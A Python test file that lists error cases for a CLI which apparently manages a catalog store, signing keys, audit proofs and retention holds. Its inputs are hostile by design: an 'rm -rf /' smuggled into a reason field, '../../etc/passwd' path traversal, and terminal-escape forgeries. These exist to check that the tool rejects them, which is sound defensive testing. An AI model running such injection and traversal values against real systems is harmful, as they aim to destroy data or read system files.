    case("audit-cosign-proof-garbage", ["audit", "cosign", "{keys}/cp.txt", "--key", "{keys}/witness.key",
         "--previous", "{keys}/cp.txt", "--proof", "{inp}/garbage.json", "--log-key", "{keys}/store.key.pub"],
         "is not a consistency proof", setup="keys"),
    case("audit-cosign-proof-wrong-sizes", ["audit", "cosign", "{keys}/cp.txt", "--key", "{keys}/witness.key",
         "--previous", "{keys}/cp.txt", "--proof", "{keys}/proof.json", "--log-key", "{keys}/store.key.pub"],
         "is a proof from 1 to 2 events", setup="keys"),
    case("keys-generate-into-store", ["keys", "generate", "--name", "k", "--out", "{base}/k"], "is inside the store"),
    case("keys-generate-through-symlink", ["keys", "generate", "--name", "k", "--out", "{inp}/storelink/k"],
         "is inside the store"),
    case("keys-generate-existing", ["keys", "generate", "--name", "k", "--out", "{inp}/report.json"],
         "{inp}/report.json already exists; a key file is never overwritten"),
    case("keys-generate-pub-existing", ["keys", "generate", "--name", "k", "--out", "{keys}/store"],
         "{keys}/store.pub already exists", setup="keys"),
    case("keys-generate-missing-folder", ["keys", "generate", "--name", "k", "--out", "{tmp}/no/k"],
         "folder {tmp}/no for the key does not exist"),
    case("keys-generate-name-space", ["keys", "generate", "--name", "a b", "--out", "{tmp}/k"],
         "key name 'a b' must be non-empty, without spaces, '+' or control characters"),
    case("keys-generate-name-plus", ["keys", "generate", "--name", "a+b", "--out", "{tmp}/k"], "key name 'a+b'"),
    case("keys-generate-name-empty", ["keys", "generate", "--name", "", "--out", "{tmp}/k"], "key name '' must"),
    case("keys-generate-name-control", ["keys", "generate", "--name", "a\x1b[2J", "--out", "{tmp}/k"], "key name"),
    case("keys-generate-to-stdout", ["keys", "generate", "--name", "k", "--out", "-"],
         "--out '-' (standard output) is not supported here; give a file path"),
    case("keys-show-none", ["keys", "show"], "no signing key is configured"),
    case("keys-show-garbage", ["keys", "show"], "signing key {keys}/garbage.key: private key is malformed",
         setup="keys", env={"CRYPTORUN_SIGNING_KEY": "{keys}/garbage.key"}),
    case("keys-show-binary", ["keys", "show"], "is not a key (not ASCII text)", setup="keys",
         env={"CRYPTORUN_SIGNING_KEY": "{keys}/binary.key"}),
    case("keys-rotate-no-key", ["keys", "rotate", "--new-key", "{keys}/witness.key"], "no signing key is configured",
         setup="keys"),
    case("keys-rotate-same-key", ["keys", "rotate", "--new-key", "{keys}/store.key.pub"],
         "is the current signing key", setup="keys", env={"CRYPTORUN_SIGNING_KEY": "{keys}/store.key"}),
    case("keys-rotate-new-open", ["keys", "rotate", "--new-key", "{keys}/open.key"],
         "new key {keys}/open.key may be read by group or others", setup="keys",
         env={"CRYPTORUN_SIGNING_KEY": "{keys}/store.key"}),
    case("audit-export-into-store", ["audit", "export", "{base}/ledger/b.zip"], "is inside the store"),
    case("audit-export-existing", ["audit", "export", "{inp}/report.json"], "already exists"),
    case("audit-export-missing-folder", ["audit", "export", "{tmp}/no/b.zip"], "folder {tmp}/no for the bundle"),
    case("audit-export-window-backwards", ["audit", "export", "{tmp}/b.zip", "--since", "2024-02-01", "--until",
         "2024-01-01"], "--since must be earlier than --until"),
    case("audit-export-bad-time", ["audit", "export", "{tmp}/b.zip", "--until", "2024-13-01"], "is not a time"),
    case("verify-bundle-missing", ["audit", "verify-bundle", "{tmp}/nope.zip"], "bundle {tmp}/nope.zip does not exist"),
    case("verify-bundle-folder", ["audit", "verify-bundle", "{inp}/folder"], "is a folder, not a file"),
    case("verify-bundle-garbage", ["audit", "verify-bundle", "{inp}/garbage.json"], "is not a catalog evidence bundle"),
    case("verify-bundle-empty", ["audit", "verify-bundle", "{inp}/empty.json"], "is not a catalog evidence bundle"),
    case("verify-bundle-key-not-a-key", ["audit", "verify-bundle", "{inp}/garbage.json", "--key", "{inp}/report.json"],
         "public key {inp}/report.json: verifier key is malformed"),
    case("verify-bundle-key-private-open", ["audit", "verify-bundle", "{inp}/garbage.json", "--key", "{keys}/open.key"],
         "public key {keys}/open.key may be read by group or others", setup="keys"),
    case("verify-bundle-witness-not-a-key", ["audit", "verify-bundle", "{inp}/garbage.json", "--witness",
         "{inp}/garbage.json"], "witness key {inp}/garbage.json is not a key (not ASCII text)"),
    case("verify-bundle-checkpoint-garbage", ["audit", "verify-bundle", "{inp}/garbage.json", "--checkpoint",
         "{inp}/garbage.json"], "is not a catalog checkpoint"),
    case("audit-export-since-checkpoint-foreign", ["audit", "export", "{tmp}/b.zip", "--since-checkpoint",
         "{keys}/foreign.txt"], "checkpoint {keys}/foreign.txt is not of this log (catalog/0000000000000000 at size 1",
         setup="keys"),
    case("audit-export-since-checkpoint-legacy", ["audit", "export", "{tmp}/b.zip", "--since-checkpoint",
         "{keys}/legacy.json"], "is of an earlier version (JSON): give a tree checkpoint", setup="keys"),
    case("audit-export-since-checkpoint-missing", ["audit", "export", "{tmp}/b.zip", "--since-checkpoint",
         "{tmp}/nope.txt"], "checkpoint file {tmp}/nope.txt does not exist"),
    case("audit-export-key-open", ["audit", "export", "{tmp}/b.zip"], "signing key {keys}/open.key may be read by "
         "group or others", setup="keys", env={"CRYPTORUN_SIGNING_KEY": "{keys}/open.key"}),
    case("actor-newline", [*PUT, "--prefix", "p"], "actor name 'eve\\nmallory' must be", globals=("--actor", "eve\nmallory")),
    case("actor-empty", ["audit", "checkpoint"], "actor name '' must be", globals=("--actor", "")),
    case("actor-too-long", ["audit", "checkpoint"], "must be 1-64", globals=("--actor", "a" * 65)),
    case("actor-env-control", ["stats"], "actor name", env={"CRYPTORUN_ACTOR": "x\x1b[31m"}),
    case("checkpoint-dir-inside-store", ["audit", "checkpoint"], "'audit.checkpoint_dir' must be outside the store",
         env={"CRYPTORUN_CHECKPOINT_DIR": "{base}/checkpoints"}),
    # -- explain, snapshot-config, demo --------------------------------------------------
    case("explain-show-missing", ["explain", "show", "{tmp}/nope.json"], "is neither a report file nor an artifact"),
    case("explain-show-garbage", ["explain", "show", "{inp}/garbage.json"], "report is not valid UTF-8"),
    case("explain-show-not-a-report", ["explain", "show", "{inp}/report.json"], "$.meta is missing"),
    case("explain-show-nan", ["explain", "show", "{inp}/nan.json"], "NaN is not allowed"),
    case("explain-show-deep", ["explain", "show", "{inp}/deep.json"], "report is nested too deeply"),
    case("explain-show-bad-decision", ["explain", "show", "{inp}/bad-decision.json"],
         "$.universe[0].decision must be included or excluded, not 'maybe'"),
    case("explain-show-format-csv", ["explain", "show", "{inp}/report.json", "--format", "csv"], "'csv' is not one of"),
    case("explain-import-missing", ["explain", "import", "{tmp}/nope.json", "--prefix", "p"], "does not exist"),
    case("explain-import-folder", ["explain", "import", "{inp}/folder", "--prefix", "p"], "is a folder"),
    case("explain-import-empty", ["explain", "import", "{inp}/empty.json", "--prefix", "p"], "is empty"),
    case("explain-import-not-a-report", ["explain", "import", "{inp}/report.json", "--prefix", "p"], "$.meta is missing"),
    case("explain-import-bad-prefix", ["explain", "import", "{inp}/go-report.json", "--prefix", "../x"],
         "prefix '../x' contains '/'"),
    case("explain-import-no-prefix", ["explain", "import", "{inp}/go-report.json"], "Missing option '--prefix'"),
    case("explain-import-inf", ["explain", "import", "{inp}/inf.json", "--prefix", "p"], "Infinity is not allowed"),
    case("explain-import-lone-surrogate", ["explain", "import", "{inp}/surrogate-report.json", "--prefix", "p"],
         "$.universe[0].symbol is text with a lone surrogate at character 4 (not valid Unicode)"),
    case("explain-import-whole-number-beyond-float", ["explain", "import", "{inp}/huge-depth.json", "--prefix", "p"],
         "$.universe[0].microstructure.depth_usd is out of range: a whole number of 401 digits"),
    case("explain-show-lone-surrogate", ["explain", "show", "{inp}/surrogate-report.json"], "lone surrogate"),
    case("snapshot-config-bad-prefix", ["snapshot-config", "--prefix", "a b"], "prefix 'a b' contains ' '"),
    case("snapshot-config-empty-prefix", ["snapshot-config", "--prefix", ""], "prefix is empty"),
    case("demo-assets-negative", ["demo", "--assets", "-1"], "-1 is not in the range 0<=x<=100000"),
    case("demo-assets-word", ["demo", "--assets", "many"], "'many' is not a valid integer"),
    case("demo-seed-text", ["demo", "--seed", "lucky"], "'lucky' is not a valid integer"),
    # -- reconcile and verify ------------------------------------------------------------
    case("reconcile-grace-negative", ["reconcile", "--grace", "-1"], "-1.0 is not in the range x>=0"),
    case("reconcile-grace-word", ["reconcile", "--grace", "soon"], "'soon' is not a valid float"),
    case("reconcile-type-unknown", ["reconcile", "--type", "trades"], "'trades' is not one of"),
    case("reconcile-format-xml", ["reconcile", "--format", "xml"], "'xml' is not one of"),
    case("verify-sample-zero", ["verify", "--sample", "0"], "0.0 is not in the range 0<x<=1"),
    case("verify-sample-above-one", ["verify", "--sample", "1.5"], "1.5 is not in the range 0<x<=1"),
    case("verify-sample-and-subset", ["verify", "--sample", "0.5", "--subset", "1/2"], "cannot be combined"),
    case("verify-subset-zero", ["verify", "--subset", "0/3"], "--subset must be N/T with 1 <= N <= T, not 0/3"),
    case("verify-subset-beyond", ["verify", "--subset", "4/3"], "not 4/3"),
    case("verify-subset-word", ["verify", "--subset", "half"], "--subset must look like 3/7"),
    case("verify-subset-slashes", ["verify", "--subset", "1/2/3"], "--subset must look like 3/7"),
    case("verify-workers-zero", ["verify", "--workers", "0"], "0 is not in the range 1<=x<=64"),
    case("verify-since-bad", ["verify", "--since", "2024-13-01"], "is not a time"),
    case("verify-history-limit-zero", ["verify", "history", "--limit", "0"], "0 is not in the range x>=1"),
    # -- operations ----------------------------------------------------------------------
    case("backup-into-store", ["backup", "{base}/copy.sqlite"], "inside the store", sqlite_only=True),
    case("backup-existing", ["backup", "{inp}/report.json"], "never overwrites", sqlite_only=True),
    case("backup-missing-folder", ["backup", "{tmp}/no/such/copy.sqlite"], "does not exist", sqlite_only=True),
    case("backup-no-target", ["backup"], "Missing argument 'OUT'"),
    case("backup-to-stdout", ["backup", "-"], "OUT '-' (standard output) is not supported here; give a file path"),
    case("backup-empty-path", ["backup", ""], "Error: the output path is empty"),
    case("export-empty-path", ["audit", "export", ""], "Error: the output path is empty"),
    case("status-format-csv", ["status", "--format", "csv"], "'csv' is not one of"),
    case("checkpoint-dir-empty", ["audit", "verify"], "env:CRYPTORUN_CHECKPOINT_DIR: key 'audit.checkpoint_dir'",
         env={"CRYPTORUN_CHECKPOINT_DIR": ""}),
    # -- retention, holds, floors, limits ---------------------------------------------
    case("retention-plan-now-yesterday", ["retention", "plan", "--now", "yesterday"],
         "for '--now': 'yesterday' is not a time"),
    case("retention-plan-now-month-13", ["retention", "plan", "--now", "2024-13-01"], "'2024-13-01' is not a time"),
    case("retention-plan-now-overflows-utc", ["retention", "plan", "--now", "0001-01-01T00:00:00+01:00"],
         "is out of range once converted to UTC"),
    case("retention-plan-now-year-1", ["retention", "plan", "--now", "0001-01-01"], "--now 0001-01-01 is too early to plan"),
    case("retention-plan-type-unknown", ["retention", "plan", "--type", "trades"], "'trades' is not one of"),
    case("retention-plan-format-xml", ["retention", "plan", "--format", "xml"], "'xml' is not one of"),
    case("retention-apply-no-yes", ["retention", "apply"], NEEDS_YES),
    case("retention-apply-piped-y", ["retention", "apply"], NEEDS_YES, stdin=b"y\n"),
    case("retention-apply-what-if-now", ["retention", "apply", "--yes", "--now", "2099-01-01"],
         "No such option '--now'"),
    case("retention-apply-format-xml", ["retention", "apply", "--yes", "--format", "xml"], "'xml' is not one of"),
    case("hold-add-since-month-13", [*HOLD, "--since", "2024-13-01", *REASON],
         "for '--since': '2024-13-01' is not a time"),
    case("hold-add-until-yesterday", [*HOLD, "--until", "yesterday", *REASON],
         "for '--until': 'yesterday' is not a time"),
    case("hold-add-until-before-since", [*HOLD, "--since", "2024-02-01", "--until", "2024-01-01", *REASON],
         "--since must be earlier than --until"),
    case("hold-add-until-equals-since", [*HOLD, "--since", "2024-01-01", "--until", "2024-01-01", *REASON],
         "--since must be earlier than --until"),
    case("hold-add-since-overflows-utc", [*HOLD, "--since", "0001-01-01T00:00:00+01:00", *REASON],
         "is out of range once converted to UTC"),
    case("hold-add-type-unknown", ["hold", "add", "--type", "trades", *REASON], "'trades' is not one of"),
    case("hold-add-no-reason", HOLD, "Missing option '--reason'"),
    case("hold-add-reason-empty", [*HOLD, "--reason", ""], ONE_LINE),
    case("hold-add-reason-blank", [*HOLD, "--reason", "   "], ONE_LINE),
    case("hold-add-reason-multiline", [*HOLD, "--reason", "SEC inquiry\nrm -rf /"], ONE_LINE),
    case("hold-add-reason-ansi-escape", [*HOLD, "--reason", "ok\x1b[2K\x1b[1Gforged"], ONE_LINE),
    case("hold-add-reason-nul", [*HOLD, "--reason", "a\x00b"], ONE_LINE),
    case("hold-add-reason-2000-chars", [*HOLD, "--reason", "r" * 2000], ONE_LINE),
    case("hold-add-reason-del", [*HOLD, "--reason", "a\x7fb"], ONE_LINE),
    case("hold-add-reason-c1-csi", [*HOLD, "--reason", "ok\x9b2Kforged"], ONE_LINE),
    case("hold-add-reason-next-line", [*HOLD, "--reason", "line one\x85line two"], ONE_LINE),
    case("hold-add-reason-line-separator", [*HOLD, "--reason", "line one\u2028line two"], ONE_LINE),
    case("hold-add-no-selector", ["hold", "add", *REASON], HOLD_ONE_OF),
    case("hold-add-path-and-prefix", ["hold", "add", "{stored}", "--prefix", "trades", *REASON], HOLD_ONE_OF),
    case("hold-add-path-and-type", ["hold", "add", "{stored}", "--type", "ledger", *REASON], HOLD_ONE_OF),
    case("hold-add-prefix-and-type", [*HOLD, "--type", "explain", *REASON], HOLD_ONE_OF),
    case("hold-add-path-not-in-catalog", ["hold", "add", NOPE, *REASON], f"no artifact at {NOPE} in the catalog"),
    case("hold-add-path-traversal", ["hold", "add", "../../etc/passwd", *REASON],
         "no artifact at ../../etc/passwd in the catalog"),
    case("hold-add-path-outside", ["hold", "add", "/etc/passwd", *REASON], "/etc/passwd is outside the store"),
    case("hold-add-path-nul", ["hold", "add", "ledger/a\x00b.json", *REASON], "path contains a NUL character"),
    case("hold-add-prefix-empty", ["hold", "add", "--prefix", "", *REASON], HOLD_PREFIX),
    case("hold-add-prefix-65-chars", ["hold", "add", "--prefix", "p" * 65, *REASON], HOLD_PREFIX),
    case("hold-add-prefix-newline", ["hold", "add", "--prefix", "momentum\n*", *REASON], HOLD_PREFIX),
    case("hold-add-prefix-del", ["hold", "add", "--prefix", "momentum\x7f*", *REASON], HOLD_PREFIX),
    case("hold-add-format-xml", [*HOLD, *REASON, "--format", "xml"], "'xml' is not one of"),
    case("findings-resolve-unknown-id", ["findings", "resolve", "999999", *REASON], "no open finding 999999"),
    case("findings-resolve-word-id", ["findings", "resolve", "three", *REASON], "'three' is not a whole number from 1"),
    case("findings-resolve-zero-id", ["findings", "resolve", "0", *REASON], "'0' is not a whole number from 1"),
    case("findings-resolve-huge-id", ["findings", "resolve", "9" * 40, *REASON], "is not a whole number from 1"),
    case("findings-resolve-no-reason", ["findings", "resolve", "1"], "Missing option '--reason'"),
    case("findings-resolve-reason-escape", ["findings", "resolve", "1", "--reason", "ok\x1b[2J"], ONE_LINE),
    case("findings-resolve-reason-newline", ["findings", "resolve", "1", "--reason", "a\nb"], ONE_LINE),
    case("findings-ls-format-xml", ["findings", "ls", "--format", "xml"], "'xml' is not one of"),
    case("hold-release-unknown-id", ["hold", "release", "999999", *REASON], "no hold with id 999999"),
    case("hold-release-word-id", ["hold", "release", "three", *REASON], "'three' is not a whole number from 1 to"),
    case("hold-release-fraction-id", ["hold", "release", "1.5", *REASON], "'1.5' is not a whole number from 1 to"),
    case("hold-release-negative-id", ["hold", "release", *REASON, "--", "-1"], "'-1' is not a whole number from 1 to"),
    case("hold-release-huge-id", ["hold", "release", "99999999999999999999", *REASON],
         "'99999999999999999999' is not a whole number from 1 to 4611686018427387904"),
    case("hold-release-already-released", ["hold", "release", "{hold}", "--reason", "again"],
         "hold {hold} was already released", setup="released-hold"),
    case("hold-release-no-reason", ["hold", "release", "{hold}"], "Missing option '--reason'", setup="released-hold"),
    case("hold-release-no-id", ["hold", "release", *REASON], "Missing argument 'ID'"),
    case("hold-release-reason-multiline", ["hold", "release", "{hold}", "--reason", "closed\nreopened"], ONE_LINE,
         setup="released-hold"),
    case("hold-ls-format-xml", ["hold", "ls", "--format", "xml"], "'xml' is not one of"),
    case("hold-ls-all-format-yaml", ["hold", "ls", "--all", "--format", "yaml"], "'yaml' is not one of"),
    case("floor-set-type-unknown", [*SET_FLOOR, "trades", "3", *REASON], "'trades' is not one of"),
    case("floor-set-type-wrong-case", [*SET_FLOOR, "LEDGER", "3", *REASON], "'LEDGER' is not one of"),
    case("floor-set-days-negative", [*SET_FLOOR, "ledger", "-1", *REASON], "No such option '-1'"),
    case("floor-set-days-negative-after-dashes", [*SET_FLOOR, *REASON, "ledger", "--", "-1"],
         FLOOR_RANGE),
    case("floor-set-days-huge", [*SET_FLOOR, "ledger", "99999999", *REASON], FLOOR_RANGE),
    case("floor-set-days-one-too-many", [*SET_FLOOR, "ledger", "36601", *REASON], FLOOR_RANGE),
    case("floor-set-days-beyond-int64", [*SET_FLOOR, "ledger", "9" * 30, *REASON], FLOOR_RANGE),
    case("floor-set-days-word", [*SET_FLOOR, "ledger", "ten", *REASON], "'ten' is not a whole number from 0 to 36600"),
    case("floor-set-days-fraction", [*SET_FLOOR, "ledger", "3.5", *REASON], "'3.5' is not a whole number from 0 to 36600"),
    case("floor-set-days-empty", [*SET_FLOOR, "ledger", "", *REASON], "'' is not a whole number from 0 to 36600"),
    case("floor-set-no-days", [*SET_FLOOR, "ledger", *REASON], "Missing argument 'DAYS'"),
    case("floor-set-no-reason", [*SET_FLOOR, "ledger", "30"], "Missing option '--reason'"),
    case("floor-set-reason-control", [*SET_FLOOR, "ledger", "30", "--reason", "rule\x07"], ONE_LINE),
    case("floor-set-reason-2000-chars", [*SET_FLOOR, "ledger", "30", "--reason", "r" * 2000], ONE_LINE),
    case("floor-set-lowered-under-protected-rows", [*SET_FLOOR, "ledger", "10", *REASON],
         "it cannot be lowered while rows depend on it", setup="ledger-floor"),
    case("floor-show-format-xml", ["policy", "floor", "show", "--format", "xml"], "'xml' is not one of"),
    case("floor-show-extra-argument", ["policy", "floor", "show", "ledger"], "Got unexpected extra argument (ledger)"),
    case("retain-extend-until-past-path", ["retain", "extend", "{stored}", "--until", "2000-01-01", *REASON],
         IN_FUTURE),
    case("retain-extend-until-past-prefix", ["retain", "extend", "--prefix", "trades", "--until",
         "2020-01-01T00:00:00Z", *REASON], IN_FUTURE),
    case("retain-extend-until-past-no-match", ["retain", "extend", "--prefix", "nomatch", "--until", "2000-01-01",
         *REASON], IN_FUTURE),
    case("retain-extend-no-selector", ["retain", "extend", *UNTIL, *REASON], EXTEND_ONE_OF),
    case("retain-extend-path-and-prefix", ["retain", "extend", "{stored}", "--prefix", "trades", *UNTIL, *REASON],
         EXTEND_ONE_OF),
    case("retain-extend-prefix-and-type", ["retain", "extend", "--prefix", "trades", "--type", "ledger", *UNTIL,
         *REASON], EXTEND_ONE_OF),
    case("retain-extend-path-not-in-catalog", ["retain", "extend", NOPE, *UNTIL, *REASON],
         f"no artifact at {NOPE} in the catalog"),
    case("retain-extend-path-outside", ["retain", "extend", "/etc/passwd", *UNTIL, *REASON],
         "/etc/passwd is outside the store"),
    case("retain-extend-no-until", ["retain", "extend", "--prefix", "trades", *REASON], "Missing option '--until'"),
    case("retain-extend-no-reason", ["retain", "extend", "--prefix", "trades", *UNTIL], "Missing option '--reason'"),
    case("retain-extend-until-yesterday", ["retain", "extend", "--prefix", "trades", "--until", "yesterday", *REASON],
         "for '--until': 'yesterday' is not a time"),
    case("retain-extend-until-month-13", ["retain", "extend", "--prefix", "trades", "--until", "2024-13-01", *REASON],
         "'2024-13-01' is not a time"),
    case("retain-extend-until-overflows-utc", ["retain", "extend", "--prefix", "trades", "--until",
         "9999-12-31T23:59:59-01:00", *REASON], "is out of range once converted to UTC"),
    case("retain-extend-type-unknown", ["retain", "extend", "--type", "trades", *UNTIL, *REASON],
         "'trades' is not one of"),
    case("retain-extend-prefix-empty", ["retain", "extend", "--prefix", "", *UNTIL, *REASON],
         "prefix pattern must be 1-256 characters"),
    case("retain-extend-reason-carriage-return", ["retain", "extend", "{stored}", *UNTIL, "--reason", "a\rb"],
         ONE_LINE),
    case("retain-extend-reason-empty", ["retain", "extend", "{stored}", *UNTIL, "--reason", ""], ONE_LINE),
    case("limits-format-xml", ["limits", "--format", "xml"], "'xml' is not one of"),
    case("limits-extra-argument", ["limits", "store"], "Got unexpected extra argument (store)"),
    case("limits-yaml-zero-files", ["limits"], "zero-files-limit.yaml: key 'limits.max_files_per_dir' must be a "
         "whole number above 0, got 0", globals=cfg("zero-files-limit.yaml")),
    case("limits-yaml-unknown-unit", ["limits"], "unit-limit.yaml: key 'limits.max_store_bytes' must be a size above 0",
         globals=cfg("unit-limit.yaml")),
    case("limits-yaml-negative-bytes", ["limits"], "negative-limit.yaml: key 'limits.max_dir_bytes' must be a size "
         "above 0", globals=cfg("negative-limit.yaml")),
]  # fmt: skip


# -- proofs (issue 15, part 3): `audit verify-proof` with only a key, `audit prove PATH` with hostile names ----------

_ZERO = "A" * 43 + "="  # base64 of 32 zero bytes
_PROOF = {"format": "catalog-inclusion-proof/v1", "checkpoint": f"catalog/0123456789abcdef\n10\n{_ZERO}\n",
          "artifact_id": 1, "path": "ledger/x.json",
          "events": [{"seq": 1, "leaf_index": 0, "text": "{}", "proof": [_ZERO] * 4}]}  # fmt: skip


def _proof(**changes: Any) -> bytes:
    """The well-formed proof above with top-level keys, or (``event=``) keys of its one event, changed."""
    doc = json.loads(json.dumps(_PROOF))
    doc["events"][0].update(changes.pop("event", {}))
    doc.update(changes)
    return json.dumps(doc).encode()


#: Proof files every arena holds, in {inp}/ (the huge one has a test of its own: it would be hashed per case).
PROOF_FILES: dict[str, bytes] = {
    "proof-array.json": b"[1, 2]",
    "proof-format.json": _proof(format="catalog-inclusion-proof/v9"),
    "proof-nan.json": _proof().replace(b'"artifact_id": 1', b'"artifact_id": NaN'),
    "proof-twice.json": b'{"format": 1, "format": 2}',
    "proof-no-checkpoint.json": json.dumps({k: v for k, v in _PROOF.items() if k != "checkpoint"}).encode(),
    "proof-bad-checkpoint.json": _proof(checkpoint="catalog/x\nten\nroot\n"),
    "proof-negative-index.json": _proof(event={"leaf_index": -1}),
    "proof-bool-index.json": _proof(event={"leaf_index": True}),
    "proof-string-seq.json": _proof(event={"seq": "1"}),
    "proof-float-seq.json": _proof(event={"seq": 1.0}),
    "proof-huge-seq.json": _proof(event={"seq": 10**30}),
    "proof-zero-seq.json": _proof(event={"seq": 0}),
    "proof-number-text.json": _proof(event={"text": 5}),
    "proof-not-base64.json": _proof(event={"proof": ["!!not base64!!"]}),
    "proof-loose-base64.json": _proof(event={"proof": [" " + _ZERO]}),
    "proof-short-hash.json": _proof(event={"proof": ["A" * 42 + "=="]}),
    "proof-number-hash.json": _proof(event={"proof": [5]}),
    "proof-65-hashes.json": _proof(event={"proof": [_ZERO] * 65}),
    "proof-no-events.json": _proof(events=[]),
    "proof-events-object.json": _proof(events={"seq": 1}),
    "proof-event-list.json": _proof(events=[[1, 0]]),
    "proof-size-bool.json": json.dumps({"format": "catalog-consistency-proof/v1", "from": _PROOF["checkpoint"],
                                        "to": _PROOF["checkpoint"], "size1": True, "size2": 10, "proof": []}).encode(),
}  # fmt: skip
STORE_PUB = note.generate("example.com/store").verifier.vkey  # {inp}/store.pub
VERIFY_PROOF = ["audit", "verify-proof"]  # + FILE --key KEY
KEY = ("--key", "{inp}/store.pub")
MALFORMED = "malformed proof: "
CASES += [
    case("verify-proof-missing", [*VERIFY_PROOF, "{tmp}/nope.json", *KEY], "proof file {tmp}/nope.json does not exist"),
    case("verify-proof-folder", [*VERIFY_PROOF, "{inp}/folder", *KEY], "is a folder"),
    case("verify-proof-empty", [*VERIFY_PROOF, "{inp}/empty.json", *KEY], MALFORMED + "not a JSON proof file"),
    case("verify-proof-garbage", [*VERIFY_PROOF, "{inp}/garbage.json", *KEY], MALFORMED + "not a JSON proof file"),
    case("verify-proof-deep", [*VERIFY_PROOF, "{inp}/deep.json", *KEY], MALFORMED + "not a JSON proof file"),
    case("verify-proof-array", [*VERIFY_PROOF, "{inp}/proof-array.json", *KEY], MALFORMED + "expected a JSON object"),
    case("verify-proof-format", [*VERIFY_PROOF, "{inp}/proof-format.json", *KEY], MALFORMED + "format 'catalog-"
         "inclusion-proof/v9' is neither"),
    case("verify-proof-nan", [*VERIFY_PROOF, "{inp}/proof-nan.json", *KEY], "NaN is not a number"),
    case("verify-proof-key-twice", [*VERIFY_PROOF, "{inp}/proof-twice.json", *KEY], "the key 'format' appears twice"),
    case("verify-proof-no-checkpoint", [*VERIFY_PROOF, "{inp}/proof-no-checkpoint.json", *KEY],
         MALFORMED + "the file has no 'checkpoint'"),
    case("verify-proof-bad-checkpoint", [*VERIFY_PROOF, "{inp}/proof-bad-checkpoint.json", *KEY],
         MALFORMED + "its 'checkpoint' checkpoint: malformed checkpoint: tree size 'ten'"),
    case("verify-proof-negative-index", [*VERIFY_PROOF, "{inp}/proof-negative-index.json", *KEY],
         "events[0]'s 'leaf_index' must be a whole number from 0 to 2**63 - 1, not '-1'"),
    case("verify-proof-bool-index", [*VERIFY_PROOF, "{inp}/proof-bool-index.json", *KEY],
         "events[0]'s 'leaf_index' must be a whole number from 0 to 2**63 - 1, not 'True'"),
    case("verify-proof-string-seq", [*VERIFY_PROOF, "{inp}/proof-string-seq.json", *KEY],
         "events[0]'s 'seq' must be a whole number"),
    case("verify-proof-float-seq", [*VERIFY_PROOF, "{inp}/proof-float-seq.json", *KEY],
         "events[0]'s 'seq' must be a whole number"),
    case("verify-proof-huge-seq", [*VERIFY_PROOF, "{inp}/proof-huge-seq.json", *KEY],
         "events[0]'s 'seq' must be a whole number"),
    case("verify-proof-zero-seq", [*VERIFY_PROOF, "{inp}/proof-zero-seq.json", *KEY], "events[0]'s seq must be 1 or more"),
    case("verify-proof-number-text", [*VERIFY_PROOF, "{inp}/proof-number-text.json", *KEY],
         "events[0]'s 'text' must be str, not int"),
    case("verify-proof-not-base64", [*VERIFY_PROOF, "{inp}/proof-not-base64.json", *KEY],
         "events[0]'s proof[0] is not base64"),
    case("verify-proof-loose-base64", [*VERIFY_PROOF, "{inp}/proof-loose-base64.json", *KEY],
         "events[0]'s proof[0] is not base64"),
    case("verify-proof-short-hash", [*VERIFY_PROOF, "{inp}/proof-short-hash.json", *KEY],
         "events[0]'s proof[0] has 31 bytes, not 32"),
    case("verify-proof-number-hash", [*VERIFY_PROOF, "{inp}/proof-number-hash.json", *KEY],
         "events[0]'s proof[0] must be a base64 string"),
    case("verify-proof-65-hashes", [*VERIFY_PROOF, "{inp}/proof-65-hashes.json", *KEY], "no proof has more than 64"),
    case("verify-proof-no-events", [*VERIFY_PROOF, "{inp}/proof-no-events.json", *KEY], "'events' must hold 1 to"),
    case("verify-proof-events-object", [*VERIFY_PROOF, "{inp}/proof-events-object.json", *KEY],
         "the file's 'events' must be list, not dict"),
    case("verify-proof-event-list", [*VERIFY_PROOF, "{inp}/proof-event-list.json", *KEY], "events[0] must be an object"),
    case("verify-proof-size-bool", [*VERIFY_PROOF, "{inp}/proof-size-bool.json", *KEY],
         "the file's 'size1' must be a whole number"),
    case("verify-proof-no-key", [*VERIFY_PROOF, "{inp}/proof-array.json"], "Missing option '--key'"),
    case("verify-proof-key-missing", [*VERIFY_PROOF, "{inp}/proof-array.json", "--key", "{tmp}/nope.pub"],
         "public key {tmp}/nope.pub does not exist"),
    case("verify-proof-key-garbage", [*VERIFY_PROOF, "{inp}/proof-array.json", "--key", "{inp}/garbage.json"],
         "is not a key"),
    case("verify-proof-key-not-a-key", [*VERIFY_PROOF, "{inp}/proof-array.json", "--key", "{inp}/report.json"],
         "public key {inp}/report.json: verifier key is malformed"),
    case("verify-proof-witness-not-a-key", [*VERIFY_PROOF, "{inp}/proof-array.json", *KEY, "--witness",
         "{inp}/report.json"], "witness key {inp}/report.json: verifier key is malformed"),
    case("prove-path-unknown", ["audit", "prove", NOPE], f"no artifact at {NOPE} in the catalog"),
    case("prove-path-nul", ["audit", "prove", "ledger/a\x00b.json"], "path contains a NUL character"),
    case("prove-path-outside", ["audit", "prove", "/etc/passwd"], "/etc/passwd is outside the store"),
    case("prove-path-dotdot", ["audit", "prove", "../../etc/passwd"], "no artifact at ../../etc/passwd"),
    case("prove-path-newline", ["audit", "prove", "ledger/a\nforged line.json"], "no artifact at ledger/a\\nforged"),
    case("prove-path-escape", ["audit", "prove", "ledger/\x1b[31mred.json"], "no artifact at ledger/\\x1b[31mred"),
    case("prove-path-glob", ["audit", "prove", "ledger/*"], "no artifact at ledger/* in the catalog"),
    case("prove-path-long", ["audit", "prove", "ledger/" + "a" * 5000], "no artifact at ledger/aaaa"),
    case("prove-path-empty", ["audit", "prove", ""], "no artifact at . in the catalog"),
    case("prove-checkpoint-garbage", ["audit", "prove", "{stored}", "--checkpoint", "{inp}/garbage.json"],
         "is not a catalog checkpoint"),
    case("prove-from-folder", ["audit", "prove", "--from", "{inp}/folder"], "is a folder"),
]  # fmt: skip


# -- the arena: a store with two artifacts, and hostile inputs beside it ------------------


class Arena:
    """Paths the cases refer to as {placeholders}, and the good store's catalog URL."""

    def __init__(self, tmp_path: Path, base_dir: Path, url: str, stored: str, stored_sha: str) -> None:
        self.tmp, self.base, self.url = tmp_path, base_dir, url
        self.inp, self.cfg = tmp_path / "in", tmp_path / "cfg"
        self.names = {"tmp": tmp_path, "base": base_dir, "inp": self.inp, "cfg": self.cfg, "stored": stored,
                      "stored_sha": stored_sha, "keys": tmp_path / "keys"}  # fmt: skip  (keys: made by setup "keys")

    def fill(self, value: str) -> str:
        return value.format_map(self.names) if "{" in value and "}" in value else value


@pytest.fixture
